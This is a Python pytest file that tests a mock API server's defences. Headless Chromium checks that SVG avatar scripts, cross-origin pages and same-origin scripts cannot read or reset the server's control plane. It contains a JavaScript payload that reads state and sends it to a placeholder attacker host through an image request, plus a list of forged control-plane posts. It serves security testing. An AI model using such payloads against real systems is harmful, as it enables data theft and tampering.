"""No web page gets in (issue 19, item 1), in headless Chromium against a live mock on 127.0.0.1.

1. The reported attack: an SVG avatar whose script, once the browser navigates to its ``thumbnailUrl``,
   reads ``/_mock/state`` and posts ``/_mock/reset``.
2. A page on another origin (127.0.0.2) tries that and every other way to the control plane we could
   think of: fetch with and without CORS, form posts, navigations, frames, pop-ups, sendBeacon, img,
   script and style tags, WebSocket, EventSource, and the inspector's own endpoints.
3. A script that does run in the mock's own origin (WebDriver's, on the mock's Swagger page) still
   cannot use the control plane: a browser needs the inspector page's token, which only a top-level
   navigation to that page receives.

Each ends with the victim organization's state read through ``MockControl`` (the lead's control
client): its keys and data are unchanged, and so are the faults, assumptions and organizations.
"""

from __future__ import annotations

import base64
import html
import json
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from mock_server.control_client import MockControl
from mock_server.server import MockServer

pytestmark = pytest.mark.slow  # a browser and a server per test

ATTACK_JS = Path(__file__).with_name("attack_page.js")

# Reads the control plane and reports to the attacker's host; posts a reset. An SVG needs CDATA.
LEAK_JS = """(async () => {
  const report = (what) => { try { new Image().src = "ATTACKER/leak?" + encodeURIComponent(what); } catch (e) {} };
  let state = "unread";
  try { const r = await fetch("/_mock/state"); state = r.status + ":" + (await r.text()).slice(0, 300); }
  catch (e) { state = "error:" + e; }
  report("state=" + state);
  let reset = "unsent";
  try { reset = String((await fetch("/_mock/reset", {method: "POST", headers: {"content-type": "application/json"},
                                                       body: "{}"})).status); }
  catch (e) { reset = "error:" + e; }
  report("reset=" + reset);
  const out = document.getElementById("out");
  if (out) out.textContent = "RAN state=" + state + " reset=" + reset;
  try { parent.postMessage("RAN " + state, "*"); } catch (e) {}
})();"""


def svg(attacker: str) -> bytes:
    script = LEAK_JS.replace("ATTACKER", attacker)
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="50"><text id="out" x="5" y="30">inert</text>'
            f"<script><![CDATA[{script}]]></script></svg>").encode()


def html_page(attacker: str) -> bytes:
    return f'<!doctype html><p id="out">inert</p><script>{LEAK_JS.replace("ATTACKER", attacker)}</script>'.encode()


def data_url(mime: str, content: bytes) -> str:
    return f"data:{mime};base64,{base64.b64encode(content).decode()}"


class Victim:
    """An organization with a key, a brain and a character, and a snapshot of everything it owns."""

    def __init__(self, mock: MockServer):
        self.control: MockControl = mock.control
        self.key = f"sk_victim_{uuid.uuid4().hex[:10]}"
        self.org = self.control.create_organization([self.key], name="Victim Inc")["id"]
        api = httpx.Client(base_url=mock.url, headers={"x-api-key": self.key})
        brain = api.post("/v3/brains", json={"instructions": "Be kind.", "greetingMessage": "Hi"}).json()
        assert api.post("/v3/characters", json={"name": "Ava", "livekitIdentity": "ava", "brainId": brain["id"]}
                        ).status_code == 201
        api.close()

    def snapshot(self) -> dict[str, Any]:
        # Everything the control plane lists of it but the time of the read.
        mine = [{**org, "clock": {**org["clock"], "now": None}} for org in self.control.organizations()
                if org["id"] == self.org]
        return {"state": self.control.export_state(key=self.key), "organization": mine,
                "faults": self.control.request("GET", "faults"), "assumptions": self.control.assumptions()}


@pytest.fixture
def mock() -> Iterator[MockServer]:
    with MockServer() as server:
        yield server


def deny_downloads(browser: Any) -> None:
    # An attachment (what user bytes now are) would otherwise be saved to the profile's download folder.
    browser.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "deny"})


def test_an_svg_avatar_cannot_reach_the_control_plane(chromium: Any, mock: MockServer) -> None:
    """The reproduction: POST /v1/avatars with an SVG refImage, navigate to its thumbnailUrl."""
    victim = Victim(mock)
    before = victim.snapshot()
    deny_downloads(chromium)
    for mime, content in (("image/svg+xml", svg("http://127.0.0.1:9")), ("image/png", html_page("http://127.0.0.1:9"))):
        made = httpx.post(f"{mock.url}/v1/avatars", headers={"x-api-key": "sk_any_page_may_call_the_api"},
                          json={"identity": f"evil-{uuid.uuid4().hex[:6]}", "name": "Evil",
                                "refImage": data_url(mime, content)})
        assert made.status_code == 201, made.text
        chromium.get(made.json()["thumbnailUrl"])
        time.sleep(1.5)  # what the script would need: two fetches on loopback
        shown = chromium.driver.execute_script("return document.documentElement ? document.documentElement"
                                               ".textContent : ''") or ""
        assert "RAN" not in shown, shown
    assert victim.snapshot() == before


class Attacker:
    """A page on 127.0.0.2 (another site than 127.0.0.1), and every request that reached its host."""

    def __init__(self) -> None:
        seen: list[str] = []
        self.page = b""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                body = outer.page if self.path == "/" else b""
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.seen = seen
        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def attack_page(mock_url: str, attacker_url: str) -> bytes:
    """Every attempt, one after the other; the results land in #out as JSON, then the title says done."""
    ws_url = "ws" + mock_url[len("http"):]
    config = json.dumps({"M": mock_url, "WS": ws_url, "SVG": data_url("image/svg+xml", svg(attacker_url)),
                         "HTML": data_url("image/png", html_page(attacker_url))})
    forms = json.dumps([
        ["/_mock/reset", "{}"], ["/_mock/organizations", '{"keys":["sk_evil"],"name":"evil"}'],
        ["/_mock/state", '{"organizations":[]}'], ["/_mock/seed", '{"name":"demo"}'],
        ["/_mock/faults", '{"path":"/v3/*","status":503}'], ["/_mock/clock/advance", '{"seconds":86400}'],
        ["/_mock/clock/set", '{"at":"2030-01-01T00:00:00Z"}'], ["/_mock/clock/freeze", "{}"],
        ["/_mock/conversations/x/events", '{"type":"error"}']])
    script = ATTACK_JS.read_text().replace("CONFIG", config).replace("FORM_LIST", forms)
    return f'<!doctype html><title>attacking</title><pre id="out"></pre><script>{script}</script>'.encode()


def test_a_page_on_another_origin_gets_nothing_in(chromium: Any, mock: MockServer) -> None:
    victim = Victim(mock)
    before = victim.snapshot()
    attacker = Attacker()
    try:
        attacker.page = attack_page(mock.url, attacker.url)
        deny_downloads(chromium)
        chromium.get(attacker.url + "/")
        from selenium.webdriver.support.ui import WebDriverWait

        WebDriverWait(chromium.driver, 90, poll_frequency=0.2).until(lambda d: d.title == "done")
        results = json.loads(chromium.driver.find_element("id", "out").text)
    finally:
        attacker.close()
    # The attack could start: the API took both avatars (any page may call the API); and every attempt ran.
    attempts = len(results) - 1 + 18  # one entry for the 18 form posts
    assert attempts == 84 and results["forms"] == "sent 18", sorted(results)
    assert results["avatar svg"] == 201 and results["avatar html-as-png"] == 201, results
    readable = {name: value for name, value in results.items()
                if str(value).startswith(("read", "readable", "open", "message", "RAN"))
                or (name.startswith(("script ", "style ")) and value == "loaded")}
    assert not readable, html.unescape(json.dumps(readable, indent=1))
    leaks = [path for path in attacker.seen if path.startswith("/leak")]
    assert not leaks, leaks
    assert victim.snapshot() == before
    assert chromium.foreign_requests() == []


# Runs as a script of the mock's own origin (WebDriver's, on the mock's Swagger page): what it can reach.
SAME_ORIGIN_JS = """
const done = arguments[arguments.length - 1], R = {};
const sleep = (ms) => new Promise((ok) => setTimeout(ok, ms));
const tokenIn = (text) => { const m = /name="equos-mock-page" content="([^"]+)"/.exec(text || "");
                            return m ? m[1] : ""; };
const look = (win) => { try { return tokenIn(win.document.documentElement.outerHTML) || "no token"; }
                        catch (e) { return "unreadable"; } };
(async () => {
  R.state = (await fetch("/_mock/state")).status;
  R.reset = (await fetch("/_mock/reset", {method: "POST", headers: {"content-type": "application/json"},
                                           body: "{}"})).status;
  const page = await fetch("/_mock/ui");
  R.fetchPage = page.status + " " + (tokenIn(await page.text()) || "no token");
  const f = document.createElement("iframe"); f.src = "/_mock/ui"; document.body.append(f);
  await sleep(1000);
  R.framePage = look(f.contentWindow);
  const w = window.open("/_mock/ui");
  await sleep(2000);
  R.popupPage = w ? look(w) : "blocked";
  const cached = await fetch("/_mock/ui", {cache: "force-cache"});
  R.cachedPage = cached.status + " " + (tokenIn(await cached.text()) || "no token");
  done(R);
})().catch((e) => done({error: String(e)}));
"""


def test_a_script_in_the_mocks_own_origin_cannot_get_the_page_token(chromium: Any, mock: MockServer) -> None:
    """Should anything ever run in the mock's origin: it is refused, and cannot lift the inspector's token."""
    victim = Victim(mock)
    before = victim.snapshot()
    chromium.get(f"{mock.url}/docs/v3")
    chromium.driver.set_script_timeout(30)
    seen = chromium.driver.execute_async_script(SAME_ORIGIN_JS)
    assert seen == {"state": 403, "reset": 403, "fetchPage": "403 no token", "framePage": "no token",
                    "popupPage": "unreadable", "cachedPage": "403 no token"}, seen
    assert victim.snapshot() == before
    # The inspector itself, opened by a person, still drives the mock.
    chromium.driver.switch_to.window(chromium.driver.window_handles[0])
    chromium.get(f"{mock.url}/_mock/ui#organizations")
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(chromium.driver, 15).until(lambda d: "Victim Inc" in d.find_element("tag name", "body").text)
